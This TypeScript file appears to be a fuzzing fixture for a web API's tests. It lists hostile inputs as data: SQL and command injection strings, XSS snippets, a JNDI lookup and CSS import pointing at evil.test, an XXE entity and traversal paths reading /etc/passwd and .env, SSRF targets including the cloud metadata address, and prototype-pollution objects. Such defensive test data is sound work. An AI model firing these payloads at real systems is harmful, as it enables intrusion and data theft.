// What nobody should send, and somebody does. Texts that stand for something JSON cannot write as a value are
// put in as `raw(…)` and replaced in the finished body.

/** A piece of JSON text as it is, where `JSON.stringify` would write something else. */
export const raw = (json: string): string => `\u{F0000}${json}\u{F0000}`
/** A body with its raw pieces put in. */
export const withRaw = (body: string): string => body.replace(/"\u{F0000}((?:[^"\\]|\\.)*?)\u{F0000}"/gsu, (_all, json: string) => JSON.parse(`"${json}"`) as string)

export const hostileTexts: readonly string[] = [
  '', ' ', '\u0000', 'a\u0000b', '\ud800', '\udfff\ud800', '\ufeff', '\uffff', '\u202e\u2066', '\u200b'.repeat(50), 'é'.normalize('NFD').repeat(20), '👨‍👩‍👧‍👦'.repeat(40), 'ﷺ'.repeat(30), 'ß', 'İ', 'ı',
  '\r\nX-Injected: 1', '\u001b[2J', '\u0007', '%00', '%s%n%x', '${7*7}', '{{7*7}}', '<script>alert(1)</script>', '"><img src=x onerror=1>', 'javascript:alert(1)', '\'; drop table users; --', '\' or 1=1 --',
  '") or pg_sleep(10) --', '\\', '\\\\u0000', '$1', '$$', '::uuid', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '0x10', '１２３', '٣٤', '../../../etc/passwd', 'C:\\con', '/dev/zero', 'file:///etc/passwd',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'a@b', 'a@example.test\u0000', `${'a'.repeat(250)}@example.test`, '00000000-0000-0000-0000-000000000000', 'FFFFFFFF-FFFF-4FFF-8FFF-FFFFFFFFFFFF',
  'x'.repeat(300), 'x'.repeat(10_000), '\ud83d'.repeat(2000), 'ä'.repeat(70_000), '[[[[[[[[[[', '*:*', '&|!()<->:*', '\\x00', '2026-02-30', '99999999999999999999', '1:1', 'DE-', 'ZZ-ZZZZZZZZ', '9'.repeat(15), 'eyJhIjoxfQ',
  // A way in for each interpreter that a text may come upon.
  '<!--#exec cmd="ls"-->', '*)(uid=*))(|(uid=*', '{"$gt":""}', '\'||\'1\'==\'1', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '<![CDATA[<', '${jndi:ldap://evil.test/x}', '$(sleep 9)', '`sleep 9`', '| sleep 9', '=cmd|\' /c calc\'!A1', '@import url(//evil.test)', '<svg/onload=x>',
  'data:text/html;base64,PHNjcmlwdD4=', '//evil.test', '/\\evil.test', 'http://127.0.0.1:5432/', 'http://[::ffff:127.0.0.1]/', 'http://2130706433/', 'http://169.254.169.254/', '%0d%0aSet-Cookie:%20x=1', '%c0%af', '%u003c', '&lt', '&#60;', '\\u003c', '..%c1%9c', '....//', 'nul.txt', 'a%00.png', 'a'.repeat(255), '"very odd"@example.test', 'a@[127.0.0.1]', 'a@xn--.test',
  // One sign or several, composed or not: lengths and equality are no matter of course.
  'e\u0301', '\u00e9', '\u212b', '\u0041\u030a', '\u1e9b\u0323', '\ufb01', '\u01c4', '\u1100\u1161\u11a8', '\uac01', '\u0f71\u0f72\u0f74', '\u0915\u094d\u0937', '\u0301', '\u{1d160}', '\u{1f1e6}\u{1f1e7}\u{1f1e8}', '\u{1f469}\u200d', '\u200d\u{1f469}', '\ufe0f', '\u{1f3fb}', '\u{e0067}\u{e007f}', `a${'\u0315\u0300\u05ae'.repeat(200)}b`, '\u2028\u2029\u0085', '\u{10ffff}',
  Buffer.from('["popular",1e400,1]').toString('base64url'), Buffer.from('{"value":"x","id":-1}').toString('base64url'),
]

export const hostileNumbers: readonly unknown[] = [
  -1, 0, 1, -0, 0.1, 1.5, -1e-7, 2 ** 31 - 1, 2 ** 31, 2 ** 32, 2 ** 53 - 1, 2 ** 53, -(2 ** 53), 2 ** 63, 1e21, 1e300, -1e300, 5e-324, raw('1e999'), raw('-1e999'), raw('-0'), raw('1E400'), raw('123456789012345678901234567890'), raw('0.30000000000000004'),
]

const nest = (depth: number, open: string, close: string): string => open.repeat(depth) + close.repeat(depth)

/** Values of the wrong kind. */
export const hostileValues: readonly unknown[] = [
  null, true, false, [], {}, [[]], [null], { a: 1 }, ['x'], [1, 'x', null, {}], { toString: 'x' }, { toJSON: 1 }, { length: 1e9 }, { valueOf: 'x' }, { ['__proto__']: { polluted: 1 } }, { constructor: { prototype: { polluted: 1 } } },
  raw(nest(300, '[', ']')), raw(nest(6000, '[', ']')), raw(nest(300, '{"a":', '}').replace('{"a":}', '{}')), raw(`[${'0,'.repeat(5000)}0]`), raw('{"a":1,"a":2}'), raw('{"__proto__":{"polluted":1},"__proto__":null}'),
]

/** Bodies that are no input at all. */
export const hostileBodies: readonly (string | Uint8Array)[] = [
  '', ' ', '{', '}', '[', '{"a"', '{"a":}', '{"a":1,}', '{\'a\':1}', '// x', 'NaN', 'Infinity', '-', '"', '"\u0000"', '"\n"', '\ufeff{}', '{}{}', '{}\u0000', 'null', 'true', '0', '""', '[]', '<xml/>', 'a=1&b=2', '--x\r\n\r\n--x--',
  nest(50_000, '[', ']'), nest(20_000, '{"a":', '}'), '['.repeat(100_000), '{"a":'.repeat(50_000), '"\\ud800"', '"\\uZZZZ"', '1e999', '9'.repeat(20_000), `"${'x'.repeat(200_000)}"`,
  new Uint8Array([0xff, 0xfe, 0x7b, 0x00]), new Uint8Array([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]), new Uint8Array([0xed, 0xa0, 0x80]), new Uint8Array([0x1f, 0x8b, 0x08, 0x00]), new Uint8Array(2000),
]

export const hostilePaths: readonly string[] = [
  '/', '//', '/..', '/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc%2fpasswd', '/%00', '/%', '/%zz', '/%ff', '/%ed%a0%80', '/index.html%00.png', '/assets/', '/assets/../index.html', '/assets/%2e%2e/%2e%2e/package.json',
  '/assets/..%5c..%5cpackage.json', '/.git/config', '/.env', '/sw.js', '/api', '/api/', '/api//user/index', '/api/user/index/', '/API/user/index', '/api/user/index;x=1', '/api/user/index%20', '/api/user/%69ndex', '/api/../api/user/index',
  '/api/__proto__', '/api/constructor', '/api/sync/poke', '/media/', '/media/a/200.webp', '/media/../../x/200.webp', '/media/%2e%2e%2fx/200.webp', `/media/${'a'.repeat(3000)}/200.webp`, '/media/glyph/xyz/400.webp', `/${'a'.repeat(8000)}`, `/${'a/'.repeat(2000)}`,
  '/\u{1F600}', '/search?q=%00', '/goods?id=-1', '/api/sync/pull?cursor=-1', '/api/sync/pull?cursor=0&cursor=1', '/api/sync/pull?cursor=999999999999999', '/api/sync/pull?__proto__=1', '/api/sync/pull?incarnation=%00', '/api/ems/send?email[]=a', '/api/ems/send?email=a%00b@x.test', '/api/ems/send',
]

export const hostileHeaders: readonly (readonly [string, string])[] = [
  ['Accept-Language', 'x'.repeat(5000)], ['Accept-Language', ';q=,;;,q=9'], ['Accept-Language', '*;q=0'], ['Accept-Language', 'en;q=NaN,zh;q=1e999'], ['Accept-Encoding', 'gzip'], ['Accept-Encoding', 'gzip;q=0'], ['Accept-Encoding', 'br,gzip,*'], ['Accept-Encoding', 'x'.repeat(3000)],
  ['If-None-Match', '*'], ['If-None-Match', '"x"'], ['If-None-Match', 'W/"x", "y"'], ['Content-Type', 'text/plain'], ['Content-Type', 'multipart/form-data; boundary=x'], ['Content-Type', 'application/json; charset=utf-7'], ['X-Forwarded-For', 'x'.repeat(2000)], ['X-Forwarded-For', '::::::::'], ['X-Forwarded-For', '1.2.3.4, , ,'],
  ['X-Forwarded-For', '\u00ff\u00fe'], ['X-Forwarded-Proto', 'https'], ['X-HTTP-Method-Override', 'DELETE'], ['Host', 'evil.test'], ['Range', 'bytes=0-0,5-'], ['Expect', 'x'], ['Idempotency-Key', ''], ['Idempotency-Key', 'abcdefgh:1'], ['Idempotency-Key', 'abcdefgh:0'], ['Idempotency-Key', 'abcdefgh:999999999999999'],
  ['Idempotency-Key', 'abcdefgh:9999999999999999'], ['Idempotency-Key', 'abcdefgh:1:2'], ['Idempotency-Key', '\':1'], ['Idempotency-Key', 'x'.repeat(4000)], ['Content-Length', '0'], ['Content-Length', '-1'], ['Content-Length', '99999999999'], ['Transfer-Encoding', 'chunked'], ['Content-Encoding', 'identity'], ['Content-Encoding', 'br'],
  ['Content-Encoding', 'deflate'], ['Content-Encoding', 'gzip, gzip'], ['Content-Encoding', 'GZIP '], ['Content-Encoding', 'x'.repeat(2000)], ['Cookie', 'token=x'], ['Authorization', 'Bearer x'], ['Origin', 'https://evil.test'], ['Upgrade', 'websocket'],
]
